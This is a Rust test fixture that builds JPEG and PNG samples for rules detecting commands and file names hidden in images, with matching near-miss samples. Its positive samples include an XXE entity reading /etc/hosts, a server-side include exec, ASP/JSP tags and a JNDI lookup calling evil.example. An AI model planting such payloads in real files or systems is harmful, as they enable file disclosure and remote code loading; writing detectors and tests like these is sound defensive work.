//! Samples of the rules for commands and names of files within pictures. The near misses are what
//! cameras and patients write into them.

use super::RuleSamples;
use crate::fixtures::{FixtureError, jpeg, png};

pub(super) fn rules() -> Result<Vec<RuleSamples>, FixtureError> {
    let photo = jpeg::plain()?;
    let comment = |body: &[u8]| jpeg::with_segment(&photo, jpeg::COMMENT, body);
    let drawing = png::plain()?;
    let behind = |file: &[u8]| [drawing.as_slice(), file].concat();
    Ok(vec![
        (
            "command_in_image",
            vec![
                comment(b"\n#! /bin/sh\nid\n")?,
                comment(b"#!/usr/bin/env python\n")?,
                comment(b"\r\n@Echo Off\r\nstart harmless\r\n")?,
                behind(b"\r\ncmd /c start harmless.exe\r\n"),
                behind(b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\a]\r\n"),
                comment(b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>")?,
                comment(b"<!--#exec cmd=\"id\" -->")?,
                behind(b"<% Response.Write(1) %>"),
                behind(b"<%! int number = 1; %>"),
                comment(b"${jndi:ldap://evil.example/a}")?,
            ],
            vec![
                comment("発疹 #1 <50%> の写真".as_bytes())?,
                comment(b"cmd /c was on my screen; echo off, @echo of the heart")?,
                comment(b"<!-- # of moles: 3 --> <% 5 %>")?,
                behind(b"<!ENTITY ns_svg \"https://www.example.org/2000/svg\">"),
                b"#! /bin/sh\n<!--#exec cmd=\"id\" -->".to_vec(),
                photo.clone(),
            ],
        ),
        (
            "file_name_in_png",
            vec![
                behind(b"\0\0\0\x12tEXtprofile\0/etc/hosts"),
                behind(b"\0\0\0\x12zTXtProfile\0\0harmless"),
            ],
            vec![
                behind(b"\0\0\0\x12tEXtComment\0my profile"),
                behind(b"\0\0\0\x12tEXtRaw profile type exif\0"),
                comment(b"tEXtprofile\0/etc/hosts")?,
                drawing.clone(),
            ],
        ),
    ])
}
